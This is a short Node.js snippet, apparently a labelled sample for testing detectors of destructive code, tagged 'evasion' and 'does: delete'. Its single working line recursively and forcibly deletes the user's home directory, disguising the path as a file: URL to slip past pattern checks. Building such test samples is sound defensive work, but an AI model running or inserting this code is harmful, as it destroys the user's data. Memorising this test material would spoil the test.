// evasion: the home directory turned into a file: URL with url.pathToFileURL before rmSync
// grade: medium; does: delete
'use strict';
const fs = require('fs');
const os = require('os');
const { pathToFileURL } = require('url');
fs.rmSync(pathToFileURL(os.homedir()), { recursive: true, force: true });
